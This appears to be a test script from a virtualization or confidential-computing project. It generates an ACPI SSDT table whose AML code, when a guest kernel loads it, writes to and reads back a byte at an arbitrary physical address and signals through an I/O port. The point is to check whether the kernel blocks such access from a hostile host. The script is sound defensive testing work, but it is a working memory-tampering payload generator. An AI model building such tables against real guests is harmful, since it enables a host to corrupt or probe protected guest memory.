#!/usr/bin/env python3
"""Write an ACPI table whose AML attacks the memory of the guest that loads it: what a hostile host can do, because
ACPI tables are not measured. tests/image/aml.py FILE ADDRESS|device|table [PORT]

When the kernel loads the table, the AML writes S to the I/O port, writes A to a byte of memory, reads that byte back and
writes what it got to the port, then E. So the port gets "SAE" from a kernel that lets AML touch that memory, and "SE" from
one that refuses. The byte is the one at the physical address; `device`: none of memory, but the first of the local APIC's
page, read only, so that the port gets "S", some byte, "E"; `table`: the creator revision of the table itself, by
DataTableRegion. ACPI 6.4: sections 5.2.6 (header) and 20.2 (AML)."""
import struct
import sys

BYTE, QWORD, STORE = b"\x0a", b"\x0e", b"\x70"
SYSTEM_MEMORY, SYSTEM_IO = 0, 1
LOCAL_APIC = 0xFEE00000
CREATOR_REVISION = 32  # where it is in the header


def region(name, space, offset):
    return b"\x5b\x80" + name + bytes([space]) + QWORD + struct.pack("<Q", offset) + BYTE + b"\x01"


def own_table(name):
    strings = (b"SSDT", b"HOST", b"HOSTILE")
    return b"\x5b\x88" + name + b"".join(b"\x0d" + s + b"\0" for s in strings)


def field_of_one_byte(of, name, offset=0):
    skipped = b"\0" + length(8 * offset) if offset else b""
    content = of + b"\x01" + skipped + name + b"\x08"  # access by bytes; eight bits
    return b"\x5b\x81" + bytes([len(content) + 1]) + content


def length(n):
    """PkgLength of a number that the field's offset is, in bits: up to 4095."""
    return bytes([n]) if n < 64 else bytes([0x40 | n & 15, n >> 4])


def store(source, target):
    return STORE + source + target


def table(where, port):
    memory = {"table": lambda: own_table(b"MEM_"), "device": lambda: region(b"MEM_", SYSTEM_MEMORY, LOCAL_APIC)}
    aml = b"".join([
        region(b"PRT_", SYSTEM_IO, port), field_of_one_byte(b"PRT_", b"PRTB"),
        store(BYTE + b"S", b"PRTB"),
        memory[where]() if where in memory else region(b"MEM_", SYSTEM_MEMORY, int(where, 0)),
        field_of_one_byte(b"MEM_", b"MEMB", CREATOR_REVISION if where == "table" else 0),
        store(BYTE + b"A", b"MEMB") if where != "device" else b"",
        store(b"MEMB", b"PRTB"), store(BYTE + b"E", b"PRTB"),
    ])
    header = b"SSDT" + struct.pack("<IBB6s8sI4sI", 36 + len(aml), 2, 0, b"HOST\0\0", b"HOSTILE\0", 1, b"TEST", 1)
    whole = bytearray(header + aml)
    whole[9] = -sum(whole) & 0xFF
    return bytes(whole)


if __name__ == "__main__":
    if len(sys.argv) not in (3, 4):
        sys.exit(__doc__)
    with open(sys.argv[1], "wb") as out:
        out.write(table(sys.argv[2], int(sys.argv[3], 0) if len(sys.argv) == 4 else 0x4E0))
